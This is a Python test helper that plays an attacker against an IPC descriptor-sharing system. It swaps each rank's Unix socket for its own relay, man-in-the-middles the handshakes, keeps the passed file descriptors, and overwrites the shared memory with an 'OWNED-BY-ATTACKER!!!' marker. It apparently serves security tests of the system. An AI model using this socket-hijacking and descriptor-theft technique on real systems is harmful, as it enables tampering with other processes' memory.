"""A process of the job's user, in a PID namespace of its own, relaying the job's socket
handshakes to take its descriptors (used by tests and tools/checks/socket_attacks.py).

Usage: ``python socket_relay.py FOLDER SECONDS [--once]``

Watches FOLDER (the job's IPCSHARE_SOCKET_DIR) for the job's ``ipcshare-*`` directory
and, for every ``rN.sock`` there, renames it to ``rN.sock.real``, binds its own ``rN.sock``
and relays each connection to the real one, byte for byte, both ways: the real rank
answers whatever challenge the sender asks, and the sender may then hand the relay its
descriptor. Every descriptor it gets is a rank's memory: it reads it and writes
``OWNED-BY-ATTACKER!!!`` at its start. ``--once``: swap what is there now, print
``ready``, then relay until SECONDS are up. Prints ``swapped S stolen N`` at the end (or
when SIGTERMed).
"""

from __future__ import annotations

import mmap
import os
import select
import signal
import socket
import sys
import threading
import time

MARK = b"OWNED-BY-ATTACKER!!!"


class Relay:
    def __init__(self) -> None:
        self.stolen = 0
        self.swapped = 0
        self.lock = threading.Lock()

    def swap(self, directory: str, name: str) -> socket.socket | None:
        path = os.path.join(directory, name)
        try:
            os.rename(path, path + ".real")
        except OSError:
            return None
        listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            listener.bind(path)
        except OSError:
            listener.close()
            return None
        listener.listen(16)
        self.swapped += 1
        threading.Thread(target=self.serve, args=(listener, path + ".real"),
                         daemon=True).start()
        return listener

    def serve(self, listener: socket.socket, real: str) -> None:
        while True:
            try:
                sender, _ = listener.accept()
            except OSError:
                return
            threading.Thread(target=self.relay, args=(sender, real), daemon=True).start()

    def take(self, fds: list[int]) -> None:
        for fd in fds:
            with self.lock:
                self.stolen += 1
            try:
                size = os.fstat(fd).st_size
                if size >= len(MARK):
                    with mmap.mmap(fd, size) as memory:
                        memory[:len(MARK)] = MARK
            except (OSError, ValueError):
                pass

    def relay(self, sender: socket.socket, real: str) -> None:
        listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            listener.connect(real)
        except OSError:
            sender.close()
            listener.close()
            return
        ends = {sender.fileno(): (sender, listener), listener.fileno(): (listener, sender)}
        try:
            while True:
                ready, _, _ = select.select(list(ends), [], [], 10)
                if not ready:
                    return
                for fd in ready:
                    source, target = ends[fd]
                    data, fds, _flags, _ = socket.recv_fds(source, 4096, 4)
                    if not data:
                        return
                    self.take(fds)
                    target.sendall(data)  # the descriptor itself stays here
        except OSError:
            return
        finally:
            sender.close()
            listener.close()


class _Stop(Exception):
    pass


def _stop(_signum, _frame) -> None:
    raise _Stop


def main() -> int:
    folder, seconds = sys.argv[1], float(sys.argv[2])
    once = "--once" in sys.argv[3:]
    # SIGTERM ends the relay with its report (as the init of a PID namespace it would
    # ignore a signal it has no handler for).
    signal.signal(signal.SIGTERM, _stop)
    relay = Relay()
    try:
        _watch(relay, folder, seconds, once)
    except _Stop:
        pass
    print(f"swapped {relay.swapped} stolen {relay.stolen}", flush=True)
    return 0


def _watch(relay: Relay, folder: str, seconds: float, once: bool) -> None:
    listeners = []
    done: set[str] = set()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for entry in os.listdir(folder):
            directory = os.path.join(folder, entry)
            if not entry.startswith("ipcshare-"):
                continue
            try:
                names = os.listdir(directory)
            except OSError:
                continue
            for name in names:
                key = os.path.join(directory, name)
                if name.endswith(".sock") and key not in done:
                    done.add(key)
                    listener = relay.swap(directory, name)
                    if listener is not None:
                        listeners.append(listener)
        if once:
            print("ready", flush=True)
            time.sleep(max(deadline - time.monotonic(), 0))
            break
        time.sleep(0.0002)


if __name__ == "__main__":
    sys.exit(main())
